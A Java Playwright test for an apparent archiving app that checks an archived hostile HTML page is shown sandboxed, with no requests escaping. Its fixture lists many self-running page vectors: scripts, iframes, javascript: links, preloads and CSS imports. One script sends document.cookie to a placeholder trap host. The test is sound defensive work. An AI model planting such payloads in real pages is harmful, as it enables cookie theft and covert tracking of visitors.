package verbatim.journey;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import java.io.BufferedReader;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.Supplier;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.netpreserve.jwarc.WarcReader;
import org.netpreserve.jwarc.WarcResponse;
import org.springframework.beans.factory.annotation.Autowired;
import verbatim.account.OnBehalf;
import verbatim.document.DocumentReading;
import verbatim.fetch.LocalSite;
import verbatim.source.SourceDetails;
import verbatim.source.SourceId;
import verbatim.source.SourceKeeping;
import verbatim.source.SourceKind;
import verbatim.source.Tier;
import verbatim.source.capture.Capturing;
import verbatim.source.capture.LocalPages;
import verbatim.source.capture.SnapshotId;

/** A page that a stranger wrote to harm whoever looks at it later: it is shown, and does nothing. */
class ArchivedPageJourneyTest extends Journey {

    private static final String WORDS = "We will not close the bridge this year, and nobody at the ministry has asked us to.";

    /** All ways in which a page runs or asks for something by itself; TRAP is a server that counts who knocks. */
    private static final String HOSTILE = """
            <!doctype html><html><head><title>Statement</title>
            <meta http-equiv="refresh" content="0;url=TRAP/refresh">
            <meta http-equiv="Content-Security-Policy" content="script-src *">
            <base href="TRAP/base/">
            <link rel="dns-prefetch" href="TRAP"><link rel="preconnect" href="TRAP"><link rel="prefetch" href="TRAP/prefetch">
            <link rel="preload" as="image" href="TRAP/preload"><link rel="modulepreload" href="TRAP/module">
            <link rel="prerender" href="TRAP/prerender"><link rel="manifest" href="TRAP/manifest"><link rel="icon" href="TRAP/icon">
            <link rel="stylesheet" href="TRAP/sheet.css">
            <style>@import url(TRAP/import.css); @font-face{font-family:f;src:url(TRAP/font)} body{font-family:f;background:url(TRAP/background)}</style>
            <script>document.title='ran'; top.location='TRAP/top'; fetch('/people'); new Image().src='TRAP/script?'+document.cookie</script>
            <script src="TRAP/script.js"></script>
            </head><body onload="document.title='loaded'" style="background:url(TRAP/inline)">
            <p id="words">WORDS</p>
            <img src="TRAP/img" attributionsrc="TRAP/attribution" onerror="document.title='onerror'"><img srcset="TRAP/srcset 1x"><input type="image" src="TRAP/input">
            <img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" alt="own">
            <picture><source srcset="TRAP/picture"><img></picture><video src="TRAP/video" poster="TRAP/poster" autoplay></video><audio src="TRAP/audio" autoplay></audio>
            <iframe src="TRAP/frame"></iframe><iframe srcdoc="<script>parent.document.title='srcdoc'</script><img src=TRAP/srcdoc>"></iframe>
            <iframe src="javascript:parent.document.title='js'"></iframe><iframe src="/people"></iframe>
            <object data="TRAP/object"></object><embed src="TRAP/embed">
            <svg xmlns="http://www.w3.org/2000/svg"><script>document.title='svg'</script><image href="TRAP/svg"/><use href="TRAP/use.svg#a"/>
            <animate attributeName="href" onbegin="document.title='animate'" begin="0s"/></svg>
            <form id="f" action="TRAP/form" method="post"><input name="a" autofocus onfocus="document.title='focus'"><button id="send">Send</button></form>
            <a id="out" href="javascript:document.title='click'">run</a> <a ping="TRAP/ping" href="#words" id="ping">ping</a>
            </body></html>
            """;

    /** What those who knocked at the trap said first; nothing where they only knocked. */
    private final List<String> knocks = new CopyOnWriteArrayList<>();

    @Autowired
    private Capturing capturing;

    @Autowired
    private SourceKeeping sources;

    @Autowired
    private OnBehalf people;

    @Autowired
    private DocumentReading reading;

    private LocalSite site;
    private ServerSocket trap;

    @BeforeAll
    void openTheSite() throws IOException {
        site = new LocalSite();
        trap = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        Thread.ofVirtual().start(() -> {
            while (!trap.isClosed()) {
                try (var knocking = trap.accept()) {
                    knocking.setSoTimeout(500);
                    knocks.add(said(knocking));
                    knocking.getOutputStream().write("HTTP/1.1 204 No Content\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
                } catch (IOException closed) {
                    // The test is over, or whoever knocked is gone.
                }
            }
        });
    }

    @AfterAll
    void closeTheSite() throws IOException {
        site.close();
        trap.close();
    }

    @Test
    @Order(1)
    void aHostilePageIsShownAndDoesNothing() throws IOException {
        var bytes = hostile().getBytes(StandardCharsets.UTF_8);
        site.page("/hostile", "text/html; charset=utf-8", hostile());
        var source = source("Statement of the port");
        var text = captured(source, "/hostile");
        var page = window.signIn("edda", "editor-demo-desk");

        var answered = new ArrayList<String>();
        page.onResponse(response -> answered.add(response.url()));
        window.go("/archived-page/" + text.value());
        var frame = page.frameLocator("iframe.vb-archived");
        assertThat(frame.locator("#words")).containsText(WORDS);
        assertThat(page.locator(".vb-snapshot header")).containsText("The desk’s copy of " + site.url("/hostile"));
        assertThat(page.locator(".vb-snapshot header")).containsText("SHA-256 ");
        // The frame is the stranger's: what stands around it is ours.
        window.assertAccessible("an archived page", page);
        frame.locator("#send").click();
        frame.locator("#out").click();
        frame.locator("#ping").click();
        assertThat(page).hasTitle("Statement of the port · Verbatim");
        assertThat(answered).noneMatch(url -> url.contains(":" + trap.getLocalPort()) || url.endsWith("/people"));

        var alone = page.context().newPage();
        var answer = alone.navigate(base(page) + "/archived/" + text.value());
        assertThat(answer.text()).contains(WORDS, "<script>document.title='ran'").doesNotContain("<link", "<iframe");
        assertThat(answer.headerValue("content-security-policy")).startsWith("sandbox; default-src 'none'; img-src data:; style-src 'unsafe-inline'");
        assertThat(answer.headerValue("content-security-policy")).as("one alone").doesNotContain("allow-same-origin", "'self' 'unsafe-inline'");
        assertThat(answer.headerValue("x-content-type-options")).isEqualTo("nosniff");
        assertThat(answer.headerValue("referrer-policy")).isEqualTo("no-referrer");
        assertThat(alone).hasTitle("Statement");
        alone.locator("#send").click();
        alone.locator("#out").click();
        assertThat(alone).hasTitle("Statement");
        assertThat(alone).hasURL(base(page) + "/archived/" + text.value());
        alone.close();
        assertThat(knocks).as("connections to the trap").isEmpty();

        var warc = page.request().get(base(page) + "/archived/" + text.value() + "/warc");
        try (var reader = new WarcReader(new ByteArrayInputStream(warc.body()))) {
            var response = reader.records().filter(WarcResponse.class::isInstance).map(WarcResponse.class::cast).findFirst().orElseThrow();
            assertThat(response.http().body().stream().readAllBytes()).isEqualTo(bytes);
        }
    }

    @Test
    @Order(2)
    void whatIsNoPageIsShownAsWordsWhateverStandsInIt() {
        site.page("/words.txt", "text/plain", "<script>document.title='ran'</script> " + WORDS);
        var source = source("Words of the port");
        var text = captured(source, "/words.txt");
        var page = window.signIn("edda", "editor-demo-desk");

        var answer = page.navigate(base(page) + "/archived/" + text.value());
        assertThat(answer.headerValue("content-type")).startsWith("text/plain");
        assertThat(page.locator("body")).containsText("<script>");
        assertThat(page.title()).doesNotContain("ran");
    }

    private static String said(Socket knocking) throws IOException {
        try {
            var line = new BufferedReader(new InputStreamReader(knocking.getInputStream(), StandardCharsets.US_ASCII)).readLine();
            return Objects.requireNonNullElse(line, "");
        } catch (SocketTimeoutException silent) {
            return "";
        }
    }

    private String hostile() {
        return HOSTILE.replace("TRAP", "http://localhost:" + trap.getLocalPort()).replace("WORDS", WORDS);
    }

    private static String base(Page page) {
        return page.url().replaceFirst("(https?://[^/]+).*", "$1");
    }

    private SourceId source(String title) {
        return asEdda(() -> sources.add(SourceDetails.brief(title, SourceKind.PUBLICATION, Tier.PUBLICATION, null, null)));
    }

    private SnapshotId captured(SourceId source, String path) {
        return asEdda(() -> {
            try (var page = LocalPages.page(reading, LocalSite.fetching(LocalSite.settings()), site.url(path))) {
                return capturing.keep(source, page);
            }
        });
    }

    private <T> T asEdda(Supplier<T> work) {
        var done = new ArrayList<T>();
        OnBehalf.run(people.of("edda").orElseThrow(), () -> done.add(work.get()));
        return done.getFirst();
    }
}
